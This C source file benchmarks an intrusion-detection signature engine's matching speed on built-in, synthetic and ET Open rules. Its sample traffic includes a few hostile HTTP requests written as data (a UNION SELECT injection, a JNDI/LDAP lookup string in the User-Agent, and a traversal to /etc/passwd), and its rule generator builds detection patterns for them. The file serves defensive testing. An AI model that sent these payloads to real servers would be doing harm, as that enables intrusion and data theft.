/* Benchmark of the signature engine (src/net/net_sig_*.c): requests matched per second for the
 * built-in rules and for a synthetic 2,000-rule set in the style of web rule sets, with the
 * Hyperscan prefilter and with the portable one; and, given rule files (an ET Open download),
 * for those. Build: ninja -C BUILD sig_bench; run: BUILD/sig_bench [SECONDS [FILE...]]. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "core/kw_buf.h"
#include "net/net_sig.h"

typedef struct req {
    const char *method, *uri, *hdr, *ua, *cookie, *body;
} req;

/* A mix of ordinary and hostile requests, as a web server sees them. */
static const req reqs[] = {
    {"GET", "/index.html", "Host: www.example.com\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n", "Mozilla/5.0", "", ""},
    {"GET", "/search?q=%22select+a+car%22&hl=en", "Host: www.example.com\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\nCookie: sid=abc123\r\n",
     "Mozilla/5.0 (X11; Linux x86_64)", "sid=abc123", ""},
    {"POST", "/api/v1/orders", "Host: api.example.com\r\nContent-Type: application/json\r\nUser-Agent: okhttp/4.12\r\n", "okhttp/4.12", "",
     "{\"items\":[{\"sku\":\"A-100\",\"qty\":2}],\"note\":\"ring twice\"}"},
    {"GET", "/wp-admin/edit.php?post_type=page", "Host: blog.example.org\r\nUser-Agent: Mozilla/5.0\r\nCookie: wordpress_logged_in=x\r\n",
     "Mozilla/5.0", "wordpress_logged_in=x", ""},
    {"GET", "/item.php?id=-1 UNION ALL SELECT 1,2,3--", "Host: a\r\nUser-Agent: sqlmap/1.7\r\n", "sqlmap/1.7", "", ""},
    {"GET", "/", "Host: a\r\nUser-Agent: ${jndi:ldap://203.0.113.9/a}\r\n", "${jndi:ldap://203.0.113.9/a}", "", ""},
    {"GET", "/download?file=../../../../etc/passwd", "Host: a\r\nUser-Agent: curl/8.5\r\n", "curl/8.5", "", ""},
    {"POST", "/login", "Host: a\r\nContent-Type: application/x-www-form-urlencoded\r\n", "", "", "username=alice&password=s3cr3t&remember=on"},
};
#define NREQ (sizeof reqs / sizeof reqs[0])

static void fill(net_sig_input *in, const req *r)
{
    memset(in, 0, sizeof *in);
    in->proto = 6;
    in->app = NET_SIG_APP_HTTP;
    in->sport = 50000;
    in->dport = 80;
    in->flags = NET_SIG_TO_SERVER | NET_SIG_ESTABLISHED;
    in->has_addr = true; /* a client outside, a server inside */
    net_prefix_parse("198.51.100.23", &in->src, &(int){0});
    net_prefix_parse("10.0.0.5", &in->dst, &(int){0});
    const char *v[] = {r->method, r->uri, r->hdr, r->ua, r->cookie, r->body};
    const net_buf_id id[] = {NET_BUF_HTTP_METHOD, NET_BUF_HTTP_URI, NET_BUF_HTTP_HEADER,
                             NET_BUF_HTTP_USER_AGENT, NET_BUF_HTTP_COOKIE, NET_BUF_HTTP_REQUEST_BODY};
    for (size_t i = 0; i < 6; i++) {
        in->b[id[i]].p = (const uint8_t *)v[i];
        in->b[id[i]].n = strlen(v[i]);
    }
}

static double now(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static void measure(const char *name, net_sig_set *s, bool hs, double secs)
{
    net_sig_set_use_hyperscan(s, hs);
    if (hs && !net_sig_set_hyperscan(s)) {
        printf("%-28s %-10s (not built with Hyperscan)\n", name, "hyperscan");
        return;
    }
    net_sig_scratch *sc = net_sig_scratch_new(s);
    net_sig_input in[NREQ];
    for (size_t i = 0; i < NREQ; i++)
        fill(&in[i], &reqs[i]);
    size_t n = 0, hits = 0;
    double t0 = now(), t;
    do {
        for (int k = 0; k < 64; k++, n++)
            hits += net_sig_match(s, sc, &in[n % NREQ], NULL, NULL);
    } while ((t = now()) - t0 < secs);
    double rps = (double)n / (t - t0);
    printf("%-28s %-10s %5zu rules %12.0f requests/s %8.2f us/request (%zu alerts)\n", name,
           hs ? "hyperscan" : "portable", net_sig_set_count(s), rps, 1e6 / rps, hits);
    net_sig_scratch_free(sc);
}

/* 2,000 rules of the kinds web rule sets hold: a URI path and parameter, a header or user
 * agent string, some with a pcre; only a few can match the requests above. */
static char *synthetic_rules(size_t n)
{
    static const char *const bufs[] = {"http.uri", "http.header", "http.user_agent", "http.request_body", "http.cookie"};
    kw_buf b;
    kw_buf_init(&b, 16 << 20);
    srand(7);
    for (size_t i = 0; i < n; i++) {
        const char *buf = bufs[rand() % 5];
        kw_buf_printf(&b, "alert http $EXTERNAL_NET any -> $HTTP_SERVERS any (msg:\"SYN %zu\"; flow:established,to_server; "
                          "%s; content:\"/%c%c%cpath%04zu\"; nocase; ", i, buf, 'a' + rand() % 26, 'a' + rand() % 26,
                      'a' + rand() % 26, i);
        if (i % 3 == 0)
            kw_buf_printf(&b, "content:\"id=\"; distance:0; ");
        if (i % 5 == 0)
            kw_buf_printf(&b, "pcre:\"/path%04zu[^&]{0,20}(?:select|union|\\.\\.\\/)/i\"; ", i);
        kw_buf_printf(&b, "sid:%zu; rev:1;)\n", 2000000 + i);
    }
    return kw_buf_take(&b);
}

static char *read_all(const char *path, size_t *n)
{
    FILE *f = fopen(path, "rb");
    if (!f)
        return NULL;
    kw_buf b;
    kw_buf_init(&b, 256 << 20);
    char chunk[65536];
    size_t got;
    while ((got = fread(chunk, 1, sizeof chunk, f)) > 0 && kw_buf_append(&b, chunk, got) == KW_OK)
        ;
    fclose(f);
    *n = b.len;
    return kw_buf_take(&b);
}

/* The given rule files with ET's usual variables, as a deployment would load them. */
static void bench_files(int n, char **files, double secs)
{
    net_sig_var vars[] = {{"HOME_NET", "[10.0.0.0/8,192.168.0.0/16,172.16.0.0/12]"},
                          {"EXTERNAL_NET", "!$HOME_NET"},
                          {"HTTP_PORTS", "[80,81,443,8000,8080,8088]"}};
    net_sig_builder *b = net_sig_builder_new(vars, 3);
    net_sig_report rep = {0};
    double t0 = now();
    for (int i = 0; i < n; i++) {
        size_t len = 0;
        char *text = read_all(files[i], &len);
        if (text)
            net_sig_builder_add(b, text, len, files[i], &rep);
        free(text);
    }
    double t1 = now();
    net_sig_set *s = NULL;
    net_sig_builder_compile(b, &s, NULL, 0);
    printf("files: %zu rules loaded, %zu skipped, parsed in %.0f ms, compiled in %.0f ms\n", rep.loaded, rep.skipped,
           (t1 - t0) * 1e3, (now() - t1) * 1e3);
    measure("files", s, true, secs);
    measure("files", s, false, secs);
    net_sig_report_free(&rep);
    net_sig_set_free(s);
}

int main(int argc, char **argv)
{
    double secs = argc > 1 ? atof(argv[1]) : 1.0;
    if (secs <= 0)
        secs = 1.0;
    net_sig_builder *b = net_sig_builder_new(NULL, 0);
    net_sig_report rep = {0};
    net_sig_builder_add_builtin(b, &rep);
    net_sig_set *builtin = NULL;
    double t0 = now();
    net_sig_builder_compile(b, &builtin, NULL, 0);
    printf("built-in: %zu rules loaded, %zu skipped, compiled in %.1f ms\n", rep.loaded, rep.skipped, (now() - t0) * 1e3);
    net_sig_report_free(&rep);

    char *text = synthetic_rules(2000);
    t0 = now();
    b = net_sig_builder_new(NULL, 0);
    net_sig_builder_add_builtin(b, &rep);
    net_sig_builder_add(b, text, strlen(text), "synthetic", &rep);
    net_sig_set *big = NULL;
    net_sig_builder_compile(b, &big, NULL, 0);
    printf("synthetic: %zu rules loaded, %zu skipped, parsed and compiled in %.1f ms\n", rep.loaded, rep.skipped,
           (now() - t0) * 1e3);
    free(text);
    net_sig_report_free(&rep);

    if (argc > 2)
        bench_files(argc - 2, argv + 2, secs);
    measure("built-in", builtin, true, secs);
    measure("built-in", builtin, false, secs);
    measure("built-in + 2000 synthetic", big, true, secs);
    measure("built-in + 2000 synthetic", big, false, secs);
    net_sig_set_free(builtin);
    net_sig_set_free(big);
    return 0;
}
